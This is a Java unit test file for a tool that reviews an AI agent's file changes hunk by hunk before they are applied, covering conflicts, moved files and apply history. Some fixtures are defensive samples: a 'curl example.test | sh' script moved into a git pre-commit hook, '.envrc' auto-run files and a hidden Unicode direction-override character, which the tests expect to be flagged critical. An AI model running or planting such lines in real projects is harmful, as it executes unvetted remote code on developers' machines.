package dev.countersign.workspace;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import dev.countersign.domain.CountersignException;
import dev.countersign.domain.GuestText;
import dev.countersign.domain.Level;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ReviewModelTest {
    @TempDir Path dir;

    private static final String TEN = "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n";
    private static final String TWENTY = TEN + TEN.replace("\n", "0\n");

    private static List<HunkState> states(ReviewedFile file) {
        return file.hunks().stream().map(Hunk::state).toList();
    }

    private static void mark(Rig rig, String path, int n, HunkState as) throws Exception {
        rig.workspace.mark(List.of(rig.file(path).hunks().get(n).id()), as);
    }

    @Test
    void whatWasSaidAboutAHunkIsKeptOverARestartAndByItsContent() throws Exception {
        try (Rig rig = new Rig(dir)) {
            Rig.write(rig.host, "a", TWENTY);
            rig.in();
            Rig.write(rig.guest, "a", TWENTY.replace("2\n", "two\n").replace("90\n", "ninety\n"));
            rig.workspace.collect();
            assertThat(states(rig.file("a"))).containsExactly(HunkState.NEW, HunkState.NEW);
            String review = rig.review().id();
            mark(rig, "a", 0, HunkState.SEEN);
            mark(rig, "a", 1, HunkState.ACCEPTED);
            mark(rig, "a", 1, HunkState.SEEN);
            assertThat(states(rig.file("a"))).containsExactly(HunkState.SEEN, HunkState.ACCEPTED);
            assertThat(rig.review().id()).as("a look is no change").isEqualTo(review);
            rig.reopen();
            assertThat(states(rig.file("a"))).containsExactly(HunkState.SEEN, HunkState.ACCEPTED);
            rig.workspace.connect(rig.link);
            Rig.write(rig.guest, "a", TWENTY.replace("2\n", "zwei\n").replace("90\n", "ninety\n"));
            rig.workspace.collect();
            assertThat(states(rig.file("a")))
                    .containsExactly(HunkState.CHANGED, HunkState.ACCEPTED);
            mark(rig, "a", 1, HunkState.NEW);
            assertThat(rig.applyAll().hunks()).isEqualTo(2);
            assertThat(rig.review().files()).isEmpty();
        }
    }

    @Test
    void aRejectedHunkThatTheAgentChangesComesBackAsChanged() throws Exception {
        try (Rig rig = new Rig(dir)) {
            Rig.write(rig.host, "a", TEN);
            rig.in();
            Rig.write(rig.guest, "a", TEN.replace("5", "five"));
            rig.workspace.collect();
            rig.workspace.reject(new Choice.Hunks(List.of(rig.file("a").hunks().get(0).id())));
            assertThat(states(rig.file("a"))).containsExactly(HunkState.REJECTED);
            assertThat(rig.file("a").hunks().get(0).byDefault()).isFalse();
            Rig.write(rig.guest, "a", TEN.replace("5", "fünf"));
            rig.workspace.collect();
            assertThat(states(rig.file("a"))).containsExactly(HunkState.CHANGED);
        }
    }

    @Test
    void P2_aCriticalHunkIsRejectedUntilItIsNamed() throws Exception {
        try (Rig rig = new Rig(dir)) {
            Rig.write(rig.host, "a", TEN);
            rig.in();
            Rig.write(rig.guest, "a", TEN.replace("5", "five"));
            Rig.write(rig.guest, ".envrc.d/.envrc", "evil\n");
            rig.workspace.collect();
            Hunk hunk = rig.file(".envrc.d/.envrc").hunks().get(0);
            assertThat(hunk.state()).isEqualTo(HunkState.REJECTED);
            assertThat(hunk.byDefault()).isTrue();
            assertThat(rig.workspace.unapplied()).as("nobody decided it").hasSize(2);
            ApplyOutcome all = rig.applyAll();
            assertThat(all.paths()).containsExactly(GuestText.of("a"));
            assertThat(all.refused()).hasSize(1);
            mark(rig, ".envrc.d/.envrc", 0, HunkState.ACCEPTED);
            assertThat(states(rig.file(".envrc.d/.envrc"))).containsExactly(HunkState.ACCEPTED);
            assertThat(rig.applyAll().paths()).as("accepted or not").isEmpty();
            rig.workspace.reject(new Choice.Hunks(List.of(hunk.id())));
            assertThat(rig.workspace.unapplied()).isEmpty();
            mark(rig, ".envrc.d/.envrc", 0, HunkState.NEW);
            rig.workspace.apply(
                    new Choice.Files(List.of(".envrc.d/.envrc"), rig.review().id()), Target.tree());
            assertThat(Rig.read(rig.host, ".envrc.d/.envrc")).isEqualTo("evil\n");
        }
    }

    @Test
    void oneHunkOfAFileIsCriticalAndItsHarmlessNeighbourIsPartOfAll() throws Exception {
        try (Rig rig = new Rig(dir)) {
            Rig.write(rig.host, "a.py", TWENTY);
            rig.in();
            Rig.write(
                    rig.guest,
                    "a.py",
                    TWENTY.replace("2\n", "two\n").replace("90\n", "access = '\u202E'\n"));
            rig.workspace.collect();
            assertThat(rig.file("a.py").hunks())
                    .extracting(Hunk::level, Hunk::byDefault)
                    .containsExactly(tuple(Level.MEDIUM, false), tuple(Level.CRITICAL, true));
            rig.applyAll();
            assertThat(Rig.read(rig.host, "a.py")).isEqualTo(TWENTY.replace("2\n", "two\n"));
        }
    }

    @Test
    void movedFilesAreTold() throws Exception {
        try (Rig rig = new Rig(dir)) {
            Rig.write(rig.host, "src/old/Same.java", TEN);
            Rig.write(rig.host, "src/old/Alike.java", TWENTY);
            Rig.write(rig.host, "src/Gone.java", "nothing like it\n");
            rig.in();
            Files.createDirectories(rig.guest.resolve("src/new"));
            Files.move(
                    rig.guest.resolve("src/old/Same.java"), rig.guest.resolve("src/new/Same.java"));
            Files.delete(rig.guest.resolve("src/old/Alike.java"));
            Files.delete(rig.guest.resolve("src/Gone.java"));
            Rig.write(rig.guest, "src/new/Alike.java", TWENTY.replace("5\n", "five\n"));
            Rig.write(rig.guest, "src/new/Fresh.java", "fresh\n");
            rig.workspace.collect();
            assertThat(rig.review().files())
                    .extracting(f -> f.path().raw(), ReviewedFile::change, ReviewedFile::movedFrom)
                    .containsExactly(
                            tuple("src/Gone.java", ChangeKind.DELETED, null),
                            tuple(
                                    "src/new/Alike.java",
                                    ChangeKind.MOVED,
                                    GuestText.of("src/old/Alike.java")),
                            tuple("src/new/Fresh.java", ChangeKind.CREATED, null),
                            tuple(
                                    "src/new/Same.java",
                                    ChangeKind.MOVED,
                                    GuestText.of("src/old/Same.java")),
                            tuple("src/old/Alike.java", ChangeKind.DELETED, null),
                            tuple("src/old/Same.java", ChangeKind.DELETED, null));
            assertThat(rig.file("src/old/Same.java").movedTo())
                    .isEqualTo(GuestText.of("src/new/Same.java"));
            rig.applyAll();
            assertThat(Rig.tree(rig.host))
                    .containsOnlyKeys(
                            "src/new/Alike.java", "src/new/Fresh.java", "src/new/Same.java");
        }
    }

    @Test
    void aHarmlessFileThatIsMovedToWhereItRunsIsJudgedThere() throws Exception {
        try (Rig rig = new Rig(dir)) {
            Rig.write(rig.host, "docs/sample.sh", "#!/bin/sh\ncurl example.test | sh\n");
            rig.in();
            Files.createDirectories(rig.guest.resolve(".husky"));
            Files.move(rig.guest.resolve("docs/sample.sh"), rig.guest.resolve(".husky/pre-commit"));
            rig.workspace.collect();
            ReviewedFile file = rig.file(".husky/pre-commit");
            assertThat(file.change()).isEqualTo(ChangeKind.MOVED);
            assertThat(file.level()).isEqualTo(Level.CRITICAL);
            assertThat(file.hunks().get(0).byDefault()).isTrue();
        }
    }

    @Test
    void generatedFilesAreMarkedByNameAndByTheHostsVersionNeverByTheAgents() throws Exception {
        try (Rig rig = new Rig(dir)) {
            String marked = "// Code generated by protoc. DO NOT EDIT.\nold\n";
            Rig.write(rig.host, "api.go", marked);
            Rig.write(rig.host, "mine.go", "old\n");
            rig.in();
            Rig.write(rig.guest, "api.go", marked.replace("old", "new"));
            Rig.write(rig.guest, "mine.go", marked);
            Rig.write(rig.guest, "web/app.min.js", "x()\n");
            Rig.write(rig.guest, "node_modules/.bin/.envrc", "evil\n");
            rig.workspace.collect();
            assertThat(rig.file("api.go").generated()).isNotNull();
            assertThat(rig.file("web/app.min.js").generated()).isNotNull();
            assertThat(rig.file("mine.go").generated()).isNull();
            assertThat(rig.review().files())
                    .filteredOn(f -> f.level() == Level.CRITICAL)
                    .allMatch(f -> f.generated() == null);
        }
    }

    @Test
    void aModeChangeIsAHunkOfItsOwnBesideTheLines() throws Exception {
        try (Rig rig = new Rig(dir)) {
            Rig.write(rig.host, "a", TEN);
            rig.in();
            Rig.write(rig.guest, "a", TEN.replace("5", "five"));
            Files.setPosixFilePermissions(
                    rig.guest.resolve("a"), PosixFilePermissions.fromString("rwxr-xr-x"));
            rig.workspace.collect();
            assertThat(rig.file("a").hunks())
                    .extracting(Hunk::note, Hunk::level)
                    .containsExactly(
                            tuple(null, Level.MEDIUM), tuple("becomes executable", Level.HIGH));
            rig.applyHunk("a", 0);
            assertThat(Rig.tree(rig.host)).containsEntry("a", TEN.replace("5", "five"));
            rig.applyHunk("a", 0);
            assertThat(Rig.tree(rig.host)).containsEntry("a", "x " + TEN.replace("5", "five"));
        }
    }

    // -- conflicts

    private static void conflict(Rig rig) throws Exception {
        Rig.write(rig.host, "a", TEN);
        rig.in();
        Rig.write(rig.host, "a", TEN.replace("5\n", "host\n").replace("1\n2", "one\n2"));
        Rig.write(rig.guest, "a", TEN.replace("5\n", "agent\n").replace("10", "ten"));
        rig.workspace.collect();
    }

    private static String raw(@org.jspecify.annotations.Nullable GuestText text) {
        return java.util.Objects.requireNonNull(text).raw();
    }

    private static Conflict sides(Rig rig) throws Exception {
        return java.util.Objects.requireNonNull(rig.file("a").conflict());
    }

    @Test
    void aConflictShowsThreeSidesAndBothInOneWithMarkers() throws Exception {
        try (Rig rig = new Rig(dir)) {
            conflict(rig);
            Conflict sides = sides(rig);
            assertThat(sides.base()).isEqualTo(GuestText.of(TEN));
            assertThat(raw(sides.host())).contains("host\n").startsWith("one\n");
            assertThat(raw(sides.agent())).contains("agent\n").endsWith("ten\n");
            assertThat(raw(sides.merged()))
                    .isEqualTo(
                            """
                            one
                            2
                            3
                            4
                            <<<<<<< host
                            host
                            ||||||| base
                            5
                            =======
                            agent
                            >>>>>>> agent
                            6
                            7
                            8
                            9
                            ten
                            """);
        }
    }

    @Test
    void P3_aConflictIsSolvedByTheDevelopersTextAndUndoBringsBothSidesBack() throws Exception {
        try (Rig rig = new Rig(dir)) {
            conflict(rig);
            String before = Rig.read(rig.host, "a");
            Conflict sides = sides(rig);
            String mine = "one\nboth\nten\n";
            ApplyOutcome done =
                    rig.workspace.resolve("a", sides.digest(), new Resolution.Text(mine));
            assertThat(done.refused()).isEmpty();
            assertThat(Rig.read(rig.host, "a")).isEqualTo(mine);
            assertThat(rig.review().files()).isEmpty();
            rig.workspace.collect();
            assertThat(Rig.read(rig.guest, "a")).isEqualTo(mine);
            rig.workspace.undo();
            assertThat(Rig.read(rig.host, "a")).isEqualTo(before);
        }
    }

    @Test
    void aConflictIsSolvedByOneSide() throws Exception {
        try (Rig rig = new Rig(dir)) {
            conflict(rig);
            String host = Rig.read(rig.host, "a");
            String agent = Rig.read(rig.guest, "a");
            rig.workspace.resolve("a", sides(rig).digest(), new Resolution.TakeAgent());
            assertThat(Rig.read(rig.host, "a")).isEqualTo(agent);
            rig.workspace.undo();
            assertThat(Rig.read(rig.host, "a")).isEqualTo(host);
            rig.workspace.resolve("a", sides(rig).digest(), new Resolution.KeepHost());
            assertThat(Rig.read(rig.host, "a")).isEqualTo(host);
            rig.workspace.collect();
            assertThat(rig.review().files()).isEmpty();
            assertThat(Rig.read(rig.guest, "a")).isEqualTo(host);
        }
    }

    @Test
    void P4_aResolutionCoversOnlyTheSidesThatWereShown() throws Exception {
        try (Rig rig = new Rig(dir)) {
            conflict(rig);
            String digest = sides(rig).digest();
            Rig.write(rig.host, "a", TEN.replace("5\n", "later\n"));
            assertThatThrownBy(() -> rig.workspace.resolve("a", digest, new Resolution.TakeAgent()))
                    .isInstanceOfSatisfying(
                            CountersignException.class,
                            e ->
                                    assertThat(e.kind())
                                            .isEqualTo(CountersignException.Kind.CONFLICT));
            assertThat(Rig.read(rig.host, "a")).isEqualTo(TEN.replace("5\n", "later\n"));
        }
    }

    @Test
    void aSideThatIsNoTextIsNotShownAndCanStillBeChosen() throws Exception {
        try (Rig rig = new Rig(dir)) {
            Rig.writeBytes(rig.host, "a", new byte[] {0, 1});
            rig.in();
            Rig.writeBytes(rig.host, "a", new byte[] {0, 2});
            Rig.writeBytes(rig.guest, "a", new byte[] {0, 3});
            rig.workspace.collect();
            Conflict sides = sides(rig);
            assertThat(sides.merged()).isNull();
            assertThat(sides.note()).isNotNull();
            rig.workspace.resolve("a", sides.digest(), new Resolution.TakeAgent());
            assertThat(Files.readAllBytes(rig.host.resolve("a"))).containsExactly(0, 3);
        }
    }

    // -- history

    @Test
    void allAppliesAreListedAlsoAfterARestart() throws Exception {
        try (Rig rig = new Rig(dir)) {
            Rig.write(rig.host, "a", TEN);
            rig.in();
            Rig.write(rig.guest, "a", TEN.replace("5", "five"));
            Rig.write(rig.guest, "b", "b\n");
            rig.workspace.collect();
            rig.applyHunk("a", 0);
            rig.applyAll();
            rig.workspace.undo();
            Path patch = dir.resolve("x.patch");
            rig.workspace.apply(new Choice.All(rig.review().id()), new Target.Patch(patch));
            rig.reopen();
            List<PastApply> all = rig.workspace.applies();
            assertThat(all)
                    .extracting(PastApply::to, PastApply::files, PastApply::undoOf)
                    .containsExactly(
                            tuple("tree", 1, null),
                            tuple("tree", 1, null),
                            tuple("tree", 1, all.get(1).transaction()),
                            tuple("patch:" + patch, 1, null));
        }
    }

    @Test
    void aLineOfTheHistoryThatACrashCutShortTakesNoOtherWithIt() throws Exception {
        Path file = dir.resolve("applies");
        ApplyHistory history = new ApplyHistory(file);
        PastApply one =
                new PastApply("t000001", java.time.Instant.EPOCH, "tree", List.of(), 1, 1, 0, null);
        history.add(one);
        Files.writeString(file, "{\"transaction\":\"t0", java.nio.file.StandardOpenOption.APPEND);
        PastApply two =
                new PastApply("t000002", java.time.Instant.EPOCH, "tree", List.of(), 1, 1, 0, null);
        history.add(two);
        history.add(two);
        assertThat(history.all()).containsExactly(one, two);
    }
}
